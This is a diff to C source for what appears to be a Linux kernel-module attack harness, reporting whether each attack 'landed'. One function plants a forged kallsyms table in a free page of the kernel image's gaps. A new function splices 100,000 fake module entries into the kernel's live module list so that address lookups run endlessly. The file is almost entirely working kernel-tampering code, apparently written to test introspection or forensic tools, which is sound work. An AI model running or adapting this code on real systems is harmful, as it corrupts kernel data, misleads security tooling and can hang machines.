@@ -6,12 +6,14 @@
 #include <linux/delay.h>
 #include <linux/ftrace.h>
 #include <linux/list.h>
+#include <linux/module.h>
+#include <linux/mm.h>
 #include <linux/slab.h>
 #include <linux/vmalloc.h>
 
 #include "attacks.h"
 
-/* --- another kallsyms, in the freed gap between text and rodata ------------------ */
+/* --- another kallsyms, in a gap of the image that is free ----------------------------- */
 
 /* As scripts/kallsyms.c writes it from 6.4 on (kallsyms.h has the order), with tokens of one letter each. */
 struct fake {
@@ -65,48 +67,47 @@ static void make_fake(struct fake *f, u8 *base, u8 *elsewhere)
 	put(f, &relative_base, sizeof(relative_base));
 }
 
-/* A page of the gap that is ours: the allocator is asked until it hands one out. */
+/* A page of the gap that nobody has: what lies there stays until somebody does. */
 static struct page *gap_page(u8 *from, u8 *to)
 {
-	unsigned long first = page_to_pfn(rf_page(from)), last = page_to_pfn(rf_page(to - 1));
-	struct page *page, *next, *found = NULL;
-	LIST_HEAD(others);
+	struct page *page = rf_page(from), *end = rf_page(to - 1) + 1;
 
-	for (unsigned long i = 0; i < totalram_pages() / 2 && !found; i++) {
-		page = alloc_page(GFP_KERNEL | __GFP_NORETRY | __GFP_NOWARN);
-		if (!page)
-			break;
-		if (page_to_pfn(page) >= first && page_to_pfn(page) <= last)
-			found = page;
-		else
-			list_add(&page->lru, &others);
-	}
-	list_for_each_entry_safe(page, next, &others, lru)
-		__free_page(page);
-	return found;
+	for (; page < end; page++)
+		if (!PageReserved(page) && !page_count(page))
+			return page;
+	return NULL;
 }
+
+/* mark_rodata_ro() frees what alignment leaves behind text and behind rodata (arch/x86/mm/init_64.c). */
+static const struct {
+	const char *from, *to;
+} gaps[] = { { "_etext", "__start_rodata" }, { "__end_rodata", "_sdata" } };
 
 void attack_fake_kallsyms(struct rf_report *r)
 {
-	u8 *text = rf_symbol("_text"), *etext = rf_symbol("_etext"), *rodata = rf_symbol("__start_rodata");
+	u8 *text = rf_symbol("_text"), *from = NULL, *to;
 	struct fake *fake = kmalloc(sizeof(*fake), GFP_KERNEL);
 	struct page *page = NULL;
 
-	if (fake && text && etext && rodata && PTR_ALIGN(etext, PAGE_SIZE) < rodata)
-		page = gap_page(PTR_ALIGN(etext, PAGE_SIZE), rodata);
+	for (unsigned int i = 0; fake && text && !page && i < ARRAY_SIZE(gaps); i++) {
+		from = rf_symbol(gaps[i].from);
+		to = rf_symbol(gaps[i].to);
+		if (from && to && PTR_ALIGN(from, PAGE_SIZE) < to)
+			page = gap_page(PTR_ALIGN(from, PAGE_SIZE), to);
+		r->symbol = gaps[i].from;
+	}
 	if (!page) {
-		rf_skip(r, "there is no gap between text and rodata, or no page of it is free");
+		rf_skip(r, "nothing free behind text and rodata");
 	} else {
 		/* To where no system_state is. */
-		make_fake(fake, text, rodata + PAGE_SIZE);
+		make_fake(fake, text, text + PAGE_SIZE);
 		memcpy(page_address(page), fake->bytes, fake->used);
-		r->symbol = "_etext";
 		r->at = text + PFN_PHYS(page_to_pfn(page) - page_to_pfn(rf_page(text)));
-		r->offset = r->at - etext;
+		r->offset = r->at - from;
 		r->len = 64;
-		r->outcome = memcmp(r->at, fake->bytes, fake->used) ? RF_UNCHANGED : RF_LANDED;
 		rf_say(r, "bytes=%u", fake->used);
 		ssleep(rf_patience);
+		r->outcome = memcmp(page_address(page), fake->bytes, fake->used) ? RF_UNCHANGED : RF_LANDED;
 	}
 	kfree(fake);
 }
@@ -155,5 +156,36 @@ void attack_endless_direct_functions(struct rf_report *r)
 		return rf_skip(r, "nothing can be traced");
 	WRITE_ONCE(*direct, &hash);
 	r->outcome = READ_ONCE(*direct) == &hash ? RF_LANDED : RF_UNCHANGED;
+	ssleep(rf_patience);
+}
+
+/* --- modules: more than anybody reads to name where an address belongs ------------------------ */
+
+#define MODULES 100000
+
+/* Like struct module (include/linux/module.h) as far as who walks the list must look to pass it by. */
+struct passed_by {
+	enum module_state state;
+	struct list_head list;
+	unsigned long pad;
+};
+static_assert(offsetof(struct passed_by, list) == offsetof(struct module, list));
+
+void attack_endless_modules(struct rf_report *r)
+{
+	struct list_head *modules = rf_symbol("modules");
+	/* The last ones are read to the end of a struct module. */
+	struct passed_by *fakes = vzalloc(sizeof(*fakes) * MODULES + sizeof(struct module));
+
+	if (!modules || !fakes || !rf_aim(r, "modules", 0, sizeof(*modules)))
+		return rf_skip(r, "no list of modules");
+	for (unsigned int i = 0; i < MODULES; i++) {
+		fakes[i].state = MODULE_STATE_UNFORMED;
+		fakes[i].list.next = i + 1 < MODULES ? &fakes[i + 1].list : modules->next;
+		fakes[i].list.prev = i ? &fakes[i - 1].list : modules;
+	}
+	modules->next->prev = &fakes[MODULES - 1].list;
+	WRITE_ONCE(modules->next, &fakes[0].list);
+	r->outcome = READ_ONCE(modules->next) == &fakes[0].list ? RF_LANDED : RF_UNCHANGED;
 	ssleep(rf_patience);
 }
